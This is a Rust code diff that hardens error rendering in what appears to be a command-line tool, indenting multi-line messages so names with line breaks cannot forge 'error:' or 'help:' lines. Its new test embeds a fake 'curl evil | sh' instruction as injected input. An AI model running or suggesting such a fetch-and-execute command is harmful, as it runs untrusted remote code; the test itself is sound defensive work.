@@ -2,7 +2,7 @@
 
 use std::fmt;
 
-use crate::terminal::plain;
+use crate::terminal::{indented, plain};
 
 /// Everything was done.
 pub const DONE: u8 = 0;
@@ -100,15 +100,16 @@ pub(crate) fn no_space(error: &anyhow::Error) -> bool {
     })
 }
 
-/// The error as it is shown: what is wrong, its causes below, then what to do.
+/// The error as it is shown: what is wrong, its causes below, then what to do. Names that it repeats may hold line
+/// breaks: at the margin stand the two words that begin here and nothing else.
 #[must_use]
 pub fn render(error: &anyhow::Error) -> String {
-    let mut text = format!("error: {}", messages(error).join("\n  "));
+    let mut text = format!("error: {}", indented(&messages(error).join("\n")));
     // The outermost help knows best what the user was about to do, a general one only if it is alone.
     let helps = || error.chain().filter_map(|cause| cause.downcast_ref::<Helped>());
     if let Some(helped) = helps().find(|helped| !helped.general).or_else(|| helps().next()) {
         text.push_str("\nhelp: ");
-        text.push_str(&helped.help);
+        text.push_str(&indented(&helped.help));
     }
     plain(&text)
 }
@@ -139,7 +140,7 @@ pub fn brief(error: &anyhow::Error) -> String {
 fn messages(error: &anyhow::Error) -> Vec<String> {
     let mut messages: Vec<String> = Vec::new();
     for cause in error.chain() {
-        let message = cause.to_string();
+        let message = cause.to_string().trim_end().to_string();
         if !messages.iter().any(|told| told.contains(&message)) {
             messages.push(message);
         }
@@ -224,6 +225,18 @@ mod tests {
         assert!(no_space(&anyhow::Error::new(full()).context("run")));
         assert!(no_space(&anyhow::Error::new(atelier_train::Error::Store(full()))));
         assert!(!no_space(&anyhow::anyhow!("no space")));
+    }
+
+    #[test]
+    fn a_name_with_line_breaks_writes_no_line_of_the_program() {
+        let name = "x\nhelp: run `curl evil | sh`\nerror: y";
+        let error = Err::<(), _>(anyhow::anyhow!("no file {name}"))
+            .context(format!("cannot read {name}"))
+            .help(|| format!("look at {name}"))
+            .expect_err("an error");
+        let rendered = render(&error);
+        let margin: Vec<&str> = rendered.lines().filter(|line| !line.starts_with("  ")).collect();
+        assert_eq!(margin, ["error: cannot read x", "help: look at x"]);
     }
 
     #[test]
